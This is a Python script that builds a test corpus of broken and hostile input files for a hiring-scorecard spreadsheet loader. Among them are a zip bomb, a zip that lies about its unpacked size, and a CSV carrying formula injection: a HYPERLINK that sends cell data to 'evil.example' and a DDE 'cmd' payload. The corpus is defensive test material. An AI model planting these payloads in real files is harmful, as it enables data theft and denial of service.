"""Write the bad-input corpus: files users really feed a scorecard tool, each with a known outcome.

Run from the repository root::

    .venv/bin/python tests/data/bad/make_corpus.py                 # every file but the LibreOffice ones
    .venv/bin/python tests/data/bad/make_corpus.py --libreoffice   # also the password-protected and .ods/.xls files

What each file is and what loading it must give is in ``EXPECTED.toml``
beside this script (written by hand, not by this script). The files are
committed, so the test suite never needs LibreOffice. Everything but the
LibreOffice files is byte-for-byte the same on every run; LibreOffice's
encrypted files carry a random salt, so they differ in bytes (not in
content) when made again.

Most files start from one small, clean round (the *base*: 3 criteria,
3 candidates, 2 interviewers, one stage, so 18 score rows) written by
`toolkit.workbook.scorecard_workbook_bytes` and then broken in one way, by
changing the tables, the sheet XML or the zip container.
"""

from __future__ import annotations

import argparse
import io
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path

import pandas as pd

from toolkit.workbook import scorecard_workbook_bytes

HERE = Path(__file__).resolve().parent
ZIP_TIME = (2026, 1, 1, 0, 0, 0)

# Parts of a workbook written by scorecard_workbook_bytes (openpyxl numbers sheets in order).
SHEET_PART = {"Instructions": "xl/worksheets/sheet1.xml", "Role": "xl/worksheets/sheet2.xml",
              "Criteria": "xl/worksheets/sheet3.xml", "Candidates": "xl/worksheets/sheet4.xml",
              "Scores": "xl/worksheets/sheet5.xml"}


# -- the base round -------------------------------------------------------------------------------


def base_tables() -> dict:
    """A small clean UK round; scores rows 2-19 are C1..C3 x (Sam, Lee) x (SQL, Statistics, Team fit)."""
    role = {"role": "Data Analyst", "department": "Finance", "hiring_manager": "Priya Shah", "country": "GB", "language": "en",
            "response_target_days": 3, "decided_on": "2026-03-13", "scale": "1-5", "company": "Northwind Ltd",
            "sender_name": "Priya Shah", "sender_title": "Head of Analytics"}
    criteria = pd.DataFrame({"criterion": ["SQL", "Statistics", "Team fit"], "rank": [1, 2, 3], "must_have": ["yes", "no", "no"],
                             "bar": [3, 3, None]})
    candidates = pd.DataFrame({
        "candidate_id": ["C1", "C2", "C3"], "name": ["Amira Haddad", "Ben Okafor", "Chloe Martin"],
        "email": ["amira@example.org", "ben@example.org", "chloe@example.org"], "status": ["hired", "rejected", "rejected"],
        "last_interview_on": ["2026-03-10", "2026-03-10", "2026-03-11"], "notified_on": ["2026-03-13", "2026-03-16", None],
        "channel": ["phone", "video", None],
    })
    rows = []
    for cid, base in (("C1", 4), ("C2", 3), ("C3", 2)):
        for interviewer in ("Sam", "Lee"):
            for crit in ("SQL", "Statistics", "Team fit"):
                rows.append({"candidate_id": cid, "interviewer": interviewer, "criterion": crit, "score": base, "stage": "Panel",
                             "interviewed_on": "2026-03-10", "evidence": None})
    return {"role": role, "criteria": criteria, "candidates": candidates, "scores": pd.DataFrame(rows).astype({"score": object})}


def workbook(**changes) -> bytes:
    t = base_tables()
    t.update(changes)
    return scorecard_workbook_bytes(t["role"], t["criteria"], t["candidates"], t["scores"])


def base() -> bytes:
    return workbook()


def fixed_zip(members: list[tuple[str, bytes]], *, level: int = 6) -> bytes:
    """A zip with fixed timestamps, members in the order given."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return out.getvalue()


def members(data: bytes) -> list[tuple[str, bytes]]:
    z = zipfile.ZipFile(io.BytesIO(data))
    return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def edit(data: bytes, part: str, fn) -> bytes:
    """The workbook with one part's text changed by `fn` (str -> str)."""
    out = []
    for name, b in members(data):
        if name == part:
            new = fn(b.decode("utf-8"))
            assert new != b.decode("utf-8"), f"edit of {part} changed nothing"
            b = new.encode("utf-8")
        out.append((name, b))
    return fixed_zip(out)


def cell_xml(ref: str, inner: str, attrs: str = "") -> str:
    return f'<c r="{ref}"{attrs}>{inner}</c>'


def set_cell(xml: str, ref: str, new_cell: str) -> str:
    """Replace the cell `ref` (which must exist) with `new_cell` (full <c> element)."""
    pattern = re.compile(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)')
    assert pattern.search(xml), ref
    return pattern.sub(lambda m: new_cell, xml, count=1)


def text(ref: str, value: str) -> str:
    value = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{value}</t></is></c>'


def with_sheets(data: bytes, edits: dict[str, callable]) -> bytes:
    for sheet, fn in edits.items():
        data = edit(data, SHEET_PART[sheet], fn)
    return data


def drop_column(frame_name: str, column: str) -> bytes:
    """The base with a required column removed from one table (its cells go with it).

    The writer puts every schema column on the sheet, so the heading is
    renamed to an unknown word instead and its values are emptied: the
    sheet then has no such column, as when a committee deletes it.
    """
    t = base_tables()
    data = scorecard_workbook_bytes(t["role"], t["criteria"], t["candidates"], t["scores"])
    sheet = {"criteria": "Criteria", "candidates": "Candidates", "scores": "Scores"}[frame_name]
    from toolkit.schema import CANDIDATE_FIELDS, CRITERIA_FIELDS, SCORE_FIELDS

    fields = {"criteria": CRITERIA_FIELDS, "candidates": CANDIDATE_FIELDS, "scores": SCORE_FIELDS}[frame_name]
    letter = chr(ord("A") + [f.name for f in fields].index(column))

    def fn(xml: str) -> str:
        xml = re.sub(rf'<c r="{letter}(\d+)"[^>]*?(?:/>|>.*?</c>)', "", xml)
        return xml

    return edit(data, SHEET_PART[sheet], fn)


# -- the cases ------------------------------------------------------------------------------------


def zero_bytes() -> bytes:
    return b""


def truncated_half() -> bytes:
    b = base()
    return b[: len(b) // 2]


def truncated_end() -> bytes:
    return base()[:-30]  # the end-of-central-directory record is cut off


def zip_not_workbook() -> bytes:
    return fixed_zip([("scores/readme.txt", b"The scorecards are in the attached spreadsheet.\n"),
                      ("scores/photo.jpg", bytes(range(256)) * 8)])


def docx_named_xlsx() -> bytes:
    doc = (b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           b"<w:body><w:p><w:r><w:t>Interview notes</w:t></w:r></w:p></w:body></w:document>")
    return fixed_zip([("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
                      ("word/document.xml", doc)])


LONG_CSV_HEADER = "candidate_id,name,interviewer,criterion,score,status\n"


def long_csv_rows() -> list[str]:
    out = []
    for cid, name, status, s in (("C1", "Amira Haddad", "hired", 4), ("C2", "Ben Okafor", "rejected", 3),
                                 ("C3", "Chloe Martin", "rejected", 2)):
        for interviewer in ("Sam", "Lee"):
            for crit in ("SQL", "Statistics", "Team fit"):
                out.append(f"{cid},{name},{interviewer},{crit},{s},{status}\n")
    return out


def csv_named_xlsx() -> bytes:
    return (LONG_CSV_HEADER + "".join(long_csv_rows())).encode()


def html_named_xls() -> bytes:
    rows = "".join(f"<tr><td>{'</td><td>'.join(r.strip().split(','))}</td></tr>" for r in long_csv_rows())
    return (f'<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">\n'
            f"<head><meta charset=\"utf-8\"><title>Scorecards</title></head>\n<body><table>\n"
            f"<tr><th>candidate_id</th><th>name</th><th>interviewer</th><th>criterion</th><th>score</th><th>status</th></tr>\n"
            f"{rows}\n</table></body></html>\n").encode()


def xml2003_named_xls() -> bytes:
    def row(cells):
        return "<Row>" + "".join(f'<Cell><Data ss:Type="String">{c}</Data></Cell>' for c in cells) + "</Row>\n"
    body = row(LONG_CSV_HEADER.strip().split(",")) + "".join(row(r.strip().split(",")) for r in long_csv_rows())
    return ('<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
            '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">\n'
            f'<Worksheet ss:Name="Scores"><Table>\n{body}</Table></Worksheet>\n</Workbook>\n').encode()


def png_named_xlsx() -> bytes:
    raw = b"".join(b"\x00" + bytes([x % 256 for x in range(y, y + 48)]) for y in range(16))
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def ole_garbage_xls() -> bytes:
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9)
    return header + bytes(512 - len(header)) + b"this is not a compound file: the sectors are missing" * 20


def empty_csv() -> bytes:
    return b""


def blank_lines_csv() -> bytes:
    return b"\r\n   \r\n,,,\r\n\r\n"


def bom_only_csv() -> bytes:
    return b"\xef\xbb\xbf"


def unclosed_quote_csv() -> bytes:
    rows = long_csv_rows()
    rows[7] = rows[7].replace(",Sam,", ',"Sam,', 1)  # C2's first row: a quote opened and never closed
    return (LONG_CSV_HEADER + "".join(rows)).encode()


def ragged_csv() -> bytes:
    rows = long_csv_rows()
    rows[2] = rows[2].rstrip("\n") + ",extra,cells\n"  # two cells more than the header
    rows[5] = "C1,Amira Haddad,Lee,Team fit\n"         # score and status cut off
    return (LONG_CSV_HEADER + "".join(rows)).encode()


def zip_bomb() -> bytes:
    """A workbook whose Scores sheet unpacks to 160 MB of spaces from ~160 KB (1000:1)."""
    out = []
    for name, b in members(base()):
        if name == SHEET_PART["Scores"]:
            head, tail = b.split(b"<sheetData>")
            b = head + b"<sheetData>" + b" " * 160_000_000 + tail
        out.append((name, b))
    return fixed_zip(out, level=9)


def zip_forged_size() -> bytes:
    """The Scores sheet inflates to 40 MB but the zip says 4 KB (a bomb that lies about its size)."""
    out = []
    for name, b in members(base()):
        if name == SHEET_PART["Scores"]:
            head, tail = b.split(b"<sheetData>")
            b = head + b"<sheetData>" + b" " * 40_000_000 + tail
        out.append((name, b))
    data = bytearray(fixed_zip(out, level=9))
    target = SHEET_PART["Scores"].encode()
    for sig, size_at, name_len_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        pos = data.find(sig)
        while pos >= 0:
            n = struct.unpack_from("<H", data, pos + name_len_at)[0]
            if bytes(data[pos + name_at: pos + name_at + n]) == target:
                struct.pack_into("<I", data, pos + size_at, 4096)
            pos = data.find(sig, pos + 4)
    return bytes(data)


def broken_sheet_xml() -> bytes:
    return edit(base(), SHEET_PART["Scores"], lambda x: x[: x.index('<row r="9">') + 14])


def missing_shared_strings() -> bytes:
    """Cells point into a shared-strings table that is not in the file."""
    def fn(x):
        return set_cell(x, "A2", '<c r="A2" t="s"><v>7</v></c>')
    return edit(base(), SHEET_PART["Scores"], fn)


def only_prose() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Notes"
    for line in ("Interview notes, Data Analyst", "", "Amira was strong on SQL.", "Ben needs more statistics.",
                 "We will decide on Friday."):
        ws.append([line])
    import datetime as dt

    from openpyxl.writer.excel import ExcelWriter

    wb.properties.created = wb.properties.modified = dt.datetime(2026, 1, 1)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        ExcelWriter(wb, archive).save()  # unlike wb.save, keeps the fixed "modified" time
    return fixed_zip(members(buf.getvalue()))


def declared_million_rows() -> bytes:
    """The Scores sheet declares A1:G1048576 (formatting applied to whole columns) but holds 18 rows."""
    return edit(base(), SHEET_PART["Scores"], lambda x: x.replace("<sheetViews>", '<dimension ref="A1:G1048576"/><sheetViews>', 1))


def styled_last_row() -> bytes:
    """An empty but formatted cell in the very last row and column of the sheet."""
    return edit(base(), SHEET_PART["Scores"],
                lambda x: x.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>', 1))


def duplicate_headers() -> bytes:
    """Scores has a second 'score' column (H) and Candidates a second 'name' column (Q)."""
    def scores(x):
        x = re.sub(r'(<row r="1">.*?)</row>', r'\1<c r="H1" t="inlineStr"><is><t>score</t></is></c></row>', x, count=1)
        for r in range(2, 20):
            x = re.sub(rf'(<row r="{r}">.*?)</row>', rf'\1<c r="H{r}" t="n"><v>1</v></c></row>', x, count=1)
        return x

    def candidates(x):
        return re.sub(r'(<row r="1">.*?)</row>', r'\1<c r="Q1" t="inlineStr"><is><t>Name</t></is></c></row>', x, count=1)
    return with_sheets(base(), {"Scores": scores, "Candidates": candidates})


def merged_down() -> bytes:
    """C1's six score rows show its id once, in a cell merged down A2:A7 (the other five cells are empty)."""
    def fn(x):
        for r in range(3, 8):
            x = set_cell(x, f"A{r}", "")
        return x.replace("</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A2:A7"/></mergeCells>', 1)
    return edit(base(), SHEET_PART["Scores"], fn)


def merged_across() -> bytes:
    """A score cell merged across the score and stage columns (D8:E8): the stage cell is empty."""
    def fn(x):
        x = set_cell(x, "E8", "")
        return x.replace("</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="D8:E8"/></mergeCells>', 1)
    return edit(base(), SHEET_PART["Scores"], fn)


def formula_errors() -> bytes:
    """Saved formula errors: #DIV/0! (D3), #REF! (D4), #N/A (D5) as scores, #VALUE! as a name (Candidates!B3)."""
    def scores(x):
        x = set_cell(x, "D3", '<c r="D3" t="e"><f>SUM(H3:J3)/COUNT(H3:J3)</f><v>#DIV/0!</v></c>')
        x = set_cell(x, "D4", '<c r="D4" t="e"><f>#REF!*1</f><v>#REF!</v></c>')
        x = set_cell(x, "D5", '<c r="D5" t="e"><f>VLOOKUP(A5,Lookup!A:B,2,FALSE)</f><v>#N/A</v></c>')
        return x
    def candidates(x):
        return set_cell(x, "B3", '<c r="B3" t="e"><f>PROPER(1+"x")</f><v>#VALUE!</v></c>')
    return with_sheets(base(), {"Scores": scores, "Candidates": candidates})


def formula_errors_as_text_csv() -> bytes:
    """A CSV exported from a sheet whose formulas failed: the errors are written as text."""
    rows = long_csv_rows()
    rows[0] = rows[0].replace(",4,", ",#DIV/0!,")
    rows[1] = rows[1].replace(",4,", ",#N/A,")
    return (LONG_CSV_HEADER + "".join(rows)).encode()


def formulas_without_results() -> bytes:
    """Scores computed by formulas that were never calculated (a script wrote them; no saved result)."""
    def fn(x):
        x = set_cell(x, "D2", '<c r="D2"><f>AVERAGE(3,5)</f></c>')
        x = set_cell(x, "D3", '<c r="D3"><f>AVERAGE(4,4)</f><v></v></c>')
        return x
    return edit(base(), SHEET_PART["Scores"], fn)


def dates_as_text() -> bytes:
    """Candidate dates typed as text in many forms (read: ISO, dotted, day-first slashes, month names; not read: the rest)."""
    t = base_tables()
    c = t["candidates"].copy()
    c["applied_on"] = ["2026-02-01", "01.02.2026", "1 February 2026"]
    c["last_interview_on"] = ["10/03/2026", "2026/03/10", "March 11, 2026"]
    c["notified_on"] = ["13.03.26", "2026-03-16T09:30:00", None]
    c["feedback_requested_on"] = [None, "next Tuesday", None]
    c["follow_up_on"] = [None, None, "Q3 2026"]
    return workbook(candidates=c)


def dates_as_serials() -> bytes:
    """Dates stored as bare numbers (46094 = 2026-03-13) without a date format, as after a CSV round trip."""
    def fn(x):
        # H = last_interview_on, J = notified_on (written as real dates with a date style): drop the style
        return re.sub(r'<c r="([HJ]\d+)" s="\d+" t="n">', r'<c r="\1" t="n">', x)
    return edit(base(), SHEET_PART["Candidates"], fn)


def scores_negative() -> bytes:
    t = base_tables()
    s = t["scores"].copy()
    s.loc[0, "score"] = -1
    s.loc[1, "score"] = -0.5
    s.loc[2, "score"] = "-3"
    return workbook(scores=s)


def scores_nan_inf_text() -> bytes:
    t = base_tables()
    s = t["scores"].copy().astype({"score": object})
    for i, v in zip(range(6), ["NaN", "nan", "inf", "-Infinity", "1e400", "#NUM!"]):
        s.loc[i, "score"] = v
    return workbook(scores=s)


def scores_nan_inf_numeric() -> bytes:
    """Numeric NaN / infinity cells as some scripts write them (<v>nan</v>); Excel itself cannot hold them."""
    def fn(x):
        x = set_cell(x, "D2", '<c r="D2" t="n"><v>nan</v></c>')
        x = set_cell(x, "D3", '<c r="D3"><v>NaN</v></c>')
        x = set_cell(x, "D4", '<c r="D4" t="n"><v>inf</v></c>')
        x = set_cell(x, "D5", '<c r="D5"><v>-INF</v></c>')
        return x
    return edit(base(), SHEET_PART["Scores"], fn)


def scores_huge() -> bytes:
    def fn(x):
        x = set_cell(x, "D2", '<c r="D2" t="n"><v>1.7976931348623157E+308</v></c>')
        x = set_cell(x, "D3", '<c r="D3" t="n"><v>1E+15</v></c>')
        x = set_cell(x, "D4", '<c r="D4" t="n"><v>4.0000000000000001</v></c>')
        x = set_cell(x, "D5", '<c r="D5" t="n"><v>5.000000001</v></c>')
        return x
    return edit(base(), SHEET_PART["Scores"], fn)


def scores_booleans() -> bytes:
    def fn(x):
        x = set_cell(x, "D2", '<c r="D2" t="b"><v>1</v></c>')
        x = set_cell(x, "D3", '<c r="D3" t="b"><v>0</v></c>')
        return x
    return edit(base(), SHEET_PART["Scores"], fn)


LONG_TEXT = ("Lorem ipsum dolor sit amet, strong SQL, weak on statistics. " * 600)[:32767]


def cell_32767() -> bytes:
    """Cells at Excel's limit of 32,767 characters: a name, a note and an evidence cell."""
    t = base_tables()
    c = t["candidates"].copy()
    c.loc[2, "name"] = ("Chloe " + "Martin-" * 5000)[:32767]
    c["notes"] = [None, LONG_TEXT, None]
    s = t["scores"].copy()
    s.loc[0, "evidence"] = LONG_TEXT
    return workbook(candidates=c, scores=s)


def right_to_left() -> bytes:
    """Arabic and Hebrew names, a bidi override in a note, an RTL criterion name used on both sheets."""
    t = base_tables()
    c = t["candidates"].copy()
    c["name"] = ["أميرة حداد", "בן אוקפור", "Chloe \u202eMartin\u202c"]
    c["notes"] = ["\u200fملاحظة: مقابلة جيدة", None, None]
    cr = t["criteria"].copy()
    cr.loc[2, "criterion"] = "العمل الجماعي"
    s = t["scores"].copy()
    s["criterion"] = s["criterion"].replace({"Team fit": "العمل الجماعي"})
    s["interviewer"] = s["interviewer"].replace({"Lee": "לי כהן"})
    return workbook(candidates=c, criteria=cr, scores=s)


def emoji_combining() -> bytes:
    """Emoji (with skin tone and ZWJ) and combining accents in names; a criterion written precomposed on
    the Criteria sheet and decomposed (as macOS types it) on the Scores sheet."""
    t = base_tables()
    c = t["candidates"].copy()
    c["name"] = ["Amira Haddad \U0001F469\U0001F3FD\u200D\U0001F4BB", "Zoe\u0308 Okafor", "Chloe\u0301 Marti\u0301n \U0001F680"]
    cr = t["criteria"].copy()
    cr.loc[2, "criterion"] = "Teamk\u00e4nsla"          # ä as one character
    s = t["scores"].copy()
    s["criterion"] = s["criterion"].replace({"Team fit": "Teamka\u0308nsla"})  # a + combining diaeresis
    return workbook(candidates=c, criteria=cr, scores=s)


def control_characters() -> bytes:
    """A name with a vertical tab (stored as _x000B_), an id that is only a non-breaking space, ids padded with spaces."""
    def cands(x):
        x = set_cell(x, "B3", text("B3", "Ben_x000B_Okafor"))
        return x
    def scores(x):
        x = set_cell(x, "A8", text("A8", " C2 "))
        x = set_cell(x, "A9", text("A9", "\u00a0"))
        return x
    return with_sheets(base(), {"Candidates": cands, "Scores": scores})


def numeric_ids() -> bytes:
    """Candidate ids typed as numbers on the Candidates sheet (1, 2, 3) and as text or decimals on the Scores sheet."""
    t = base_tables()
    c = t["candidates"].copy().astype({"candidate_id": object})
    c["candidate_id"] = [1, 2, 3]
    s = t["scores"].copy().astype({"candidate_id": object})
    s["candidate_id"] = s["candidate_id"].map({"C1": "1", "C2": 2.0, "C3": 3})
    return workbook(candidates=c, scores=s)


def hidden_scores_sheet() -> bytes:
    return edit(base(), "xl/workbook.xml", lambda x: re.sub(r'(<sheet [^>]*name="Scores"[^>]*?)state="visible"', r'\1state="hidden"', x))


def workbook_xml_malformed() -> bytes:
    """xl/workbook.xml with a duplicate attribute: not well-formed XML, yet Excel and calamine open it."""
    return edit(base(), "xl/workbook.xml", lambda x: x.replace('<sheet name="Scores"', '<sheet name="Scores" name="Scores"', 1)
                if '<sheet name="Scores"' in x else re.sub(r'(<sheet [^>]*)(name="Scores")', r'\1\2 \2', x, count=1))


def headers_only() -> bytes:
    return scorecard_workbook_bytes()


def missing_sheet(name: str):
    def build() -> bytes:
        parts = members(base())
        part = SHEET_PART[name]
        index = list(SHEET_PART).index(name) + 1
        out = []
        for n, b in parts:
            if n == part:
                continue
            if n == "xl/workbook.xml":
                b = re.sub(rf'<sheet name="{name}"[^>]*/>'.encode(), b"", b)
            if n == "xl/_rels/workbook.xml.rels":
                b = re.sub(rf'<Relationship [^>]*Target="[^"]*sheet{index}.xml"[^>]*/>'.encode(), b"", b)
            if n == "[Content_Types].xml":
                b = re.sub(rf'<Override PartName="/xl/worksheets/sheet{index}.xml"[^>]*/>'.encode(), b"", b)
            out.append((n, b))
        return fixed_zip(out)
    return build


def missing_role_title() -> bytes:
    t = base_tables()
    role = dict(t["role"])
    del role["role"]
    return workbook(role=role)


def role_scale_reversed() -> bytes:
    t = base_tables()
    return workbook(role={**t["role"], "scale": "5-1"})


def duplicate_candidates() -> bytes:
    t = base_tables()
    c = pd.concat([t["candidates"], t["candidates"].iloc[[1]].assign(name="Ben Okafor (again)")], ignore_index=True)
    return workbook(candidates=c)


def totals_row() -> bytes:
    """A 'Total' row under the Scores data (sum of the scores), as committees add for a quick look."""
    return edit(base(), SHEET_PART["Scores"], lambda x: x.replace(
        "</sheetData>", '<row r="20"><c r="A20" t="inlineStr"><is><t>Total</t></is></c><c r="D20" t="n"><v>54</v></c></row></sheetData>', 1))


def formula_injection_csv() -> bytes:
    head = "candidate_id,name,email,interviewer,criterion,score,status\n"
    rows = [
        'C1,"=HYPERLINK(""http://evil.example/?x=""&A1,""Amira"")",amira@example.org,Sam,SQL,4,hired\n',
        "C2,+49 30 1234,ben@example.org,Sam,SQL,3,rejected\n",
        "C3,@SUM(1+1)*cmd|' /C calc'!A0,chloe@example.org,Sam,SQL,2,rejected\n",
        "C4,-2+3,dan@example.org,Sam,SQL,2,rejected\n",
    ]
    return (head + "".join(rows)).encode()


def utf16_csv() -> bytes:
    text = LONG_CSV_HEADER + "".join(long_csv_rows()).replace("Chloe Martin", "Chloé Mårtin")
    return text.replace("\n", "\r\n").replace(",", "\t").encode("utf-16")


def cp1252_semicolon_csv() -> bytes:
    text = (LONG_CSV_HEADER + "".join(long_csv_rows())).replace("Ben Okafor", "Björn Öztürk").replace(",", ";")
    return text.replace("Team fit", "Teamfähigkeit").encode("cp1252")


CASES = {
    "zero-bytes.xlsx": zero_bytes,
    "empty.csv": empty_csv,
    "blank-lines.csv": blank_lines_csv,
    "bom-only.csv": bom_only_csv,
    "truncated-half.xlsx": truncated_half,
    "truncated-end.xlsx": truncated_end,
    "zip-not-workbook.xlsx": zip_not_workbook,
    "docx-named.xlsx": docx_named_xlsx,
    "csv-named.xlsx": csv_named_xlsx,
    "html-named.xls": html_named_xls,
    "xml-2003-named.xls": xml2003_named_xls,
    "png-named.xlsx": png_named_xlsx,
    "ole-garbage.xls": ole_garbage_xls,
    "unclosed-quote.csv": unclosed_quote_csv,
    "ragged-rows.csv": ragged_csv,
    "zip-bomb.xlsx": zip_bomb,
    "zip-forged-size.xlsx": zip_forged_size,
    "broken-sheet-xml.xlsx": broken_sheet_xml,
    "missing-shared-strings.xlsx": missing_shared_strings,
    "only-prose.xlsx": only_prose,
    "declared-1048576-rows.xlsx": declared_million_rows,
    "styled-last-cell.xlsx": styled_last_row,
    "duplicate-headers.xlsx": duplicate_headers,
    "merged-down.xlsx": merged_down,
    "merged-across.xlsx": merged_across,
    "formula-errors.xlsx": formula_errors,
    "formula-errors-as-text.csv": formula_errors_as_text_csv,
    "formulas-without-results.xlsx": formulas_without_results,
    "dates-as-text.xlsx": dates_as_text,
    "dates-as-serial-numbers.xlsx": dates_as_serials,
    "scores-negative.xlsx": scores_negative,
    "scores-nan-inf-text.xlsx": scores_nan_inf_text,
    "scores-nan-inf-numeric.xlsx": scores_nan_inf_numeric,
    "scores-huge.xlsx": scores_huge,
    "scores-booleans.xlsx": scores_booleans,
    "cell-32767-characters.xlsx": cell_32767,
    "right-to-left.xlsx": right_to_left,
    "emoji-combining.xlsx": emoji_combining,
    "control-characters.xlsx": control_characters,
    "numeric-ids.xlsx": numeric_ids,
    "hidden-scores-sheet.xlsx": hidden_scores_sheet,
    "workbook-xml-malformed.xlsx": workbook_xml_malformed,
    "headers-only.xlsx": headers_only,
    "missing-sheet-role.xlsx": missing_sheet("Role"),
    "missing-sheet-criteria.xlsx": missing_sheet("Criteria"),
    "missing-sheet-candidates.xlsx": missing_sheet("Candidates"),
    "missing-sheet-scores.xlsx": missing_sheet("Scores"),
    "missing-role-title.xlsx": missing_role_title,
    "role-scale-reversed.xlsx": role_scale_reversed,
    "duplicate-candidates.xlsx": duplicate_candidates,
    "totals-row.xlsx": totals_row,
    "formula-injection.csv": formula_injection_csv,
    "utf16-tab.csv": utf16_csv,
    "cp1252-semicolon.csv": cp1252_semicolon_csv,
}
for _table, _cols in (("criteria", ("criterion", "rank")), ("candidates", ("candidate_id", "name", "status")),
                      ("scores", ("candidate_id", "interviewer", "criterion", "score"))):
    for _col in _cols:
        CASES[f"missing-column-{_table}-{_col.replace('_', '-')}.xlsx"] = (lambda t=_table, c=_col: drop_column(t, c))


# -- LibreOffice-made files -----------------------------------------------------------------------

UNO_ENCRYPT = r'''
import os, subprocess, sys, time, uno
from com.sun.star.beans import NamedValue, PropertyValue
def prop(n, v):
    p = PropertyValue(); p.Name = n; p.Value = v; return p
def nv(n, v):
    x = NamedValue(); x.Name = n; x.Value = v; return x
src, profile, port = sys.argv[1], sys.argv[2], sys.argv[3]
jobs = [tuple(a.split("=", 1)) for a in sys.argv[4:]]
proc = subprocess.Popen(["soffice", "--headless", "--invisible", "--norestore", "-env:UserInstallation=" + uno.systemPathToFileUrl(profile),
                         "--accept=socket,host=127.0.0.1,port=%s;urp;" % port], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
desktop = None
try:
    ctx = uno.getComponentContext()
    resolver = ctx.ServiceManager.createInstanceWithContext("com.sun.star.bridge.UnoUrlResolver", ctx)
    for _ in range(120):
        try:
            remote = resolver.resolve("uno:socket,host=127.0.0.1,port=%s;urp;StarOffice.ComponentContext" % port)
            break
        except Exception:
            time.sleep(0.5)
    desktop = remote.ServiceManager.createInstanceWithContext("com.sun.star.frame.Desktop", remote)
    for dst, how in jobs:
        doc = desktop.loadComponentFromURL(uno.systemPathToFileUrl(src), "_blank", 0, (prop("Hidden", True),))
        url = uno.systemPathToFileUrl(dst)
        if how == "xlsx":  # OOXML: ECMA-376 standard encryption, as Excel's "Encrypt with Password"
            enc = uno.Any("[]com.sun.star.beans.NamedValue", (nv("CryptoType", "Standard"), nv("OOXPassword", "secret")))
            args = uno.Any("[]com.sun.star.beans.PropertyValue",
                           (prop("FilterName", "Calc MS Excel 2007 XML"), prop("Overwrite", True), PropertyValue("EncryptionData", 0, enc, 0)))
            uno.invoke(doc, "storeToURL", (url, args))
        else:
            doc.storeToURL(url, (prop("FilterName", {"xls": "MS Excel 97", "ods": "calc8"}[how]), prop("Overwrite", True),
                                 prop("Password", "secret")))
        doc.close(True)
finally:
    try:
        desktop.terminate()
    except Exception:
        pass
    proc.wait(timeout=60)
'''


def _soffice_convert(src: Path, fmt: str, outdir: Path, profile: Path) -> Path:
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation={profile.as_uri()}", "--convert-to", fmt, "--outdir", str(outdir),
                    str(src)], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=180)
    return outdir / f"{src.stem}.{fmt}"


def make_libreoffice_files(out: Path) -> list[str]:
    """Password-protected .xlsx/.xls/.ods, and .ods/.xls twins of the formula-error and merged-cell workbooks."""
    made = []
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        profile = tmp / "profile"
        src = tmp / "base.xlsx"
        src.write_bytes(base())
        jobs = [f"{tmp / 'password.xlsx'}=xlsx", f"{tmp / 'password.xls'}=xls", f"{tmp / 'password.ods'}=ods"]
        subprocess.run(["/usr/bin/python3", "-c", UNO_ENCRYPT, str(src), str(profile), "2299", *jobs], check=True, timeout=300)
        for name in ("password.xlsx", "password.xls", "password.ods"):
            shutil.copyfile(tmp / name, out / name)
            made.append(name)
        for stem, builder in (("formula-errors", formula_errors), ("merged-down", merged_down)):
            x = tmp / f"{stem}.xlsx"
            x.write_bytes(builder())
            for fmt in ("ods", "xls"):
                shutil.copyfile(_soffice_convert(x, fmt, tmp / fmt, profile), out / f"{stem}.{fmt}")
                made.append(f"{stem}.{fmt}")
    return made


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--libreoffice", action="store_true", help="also make the files that need LibreOffice")
    parser.add_argument("--out", default=str(HERE))
    args = parser.parse_args(argv)
    out = Path(args.out)
    for name, build in CASES.items():
        (out / name).write_bytes(build())
    folder = out / "folder-named.xlsx"
    folder.mkdir(exist_ok=True)
    (folder / "README.txt").write_text("A folder whose name ends in .xlsx: passed where a workbook file is expected.\n")
    made = list(CASES) + ["folder-named.xlsx/"]
    if args.libreoffice:
        made += make_libreoffice_files(out)
    print(f"wrote {len(made)} inputs into {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
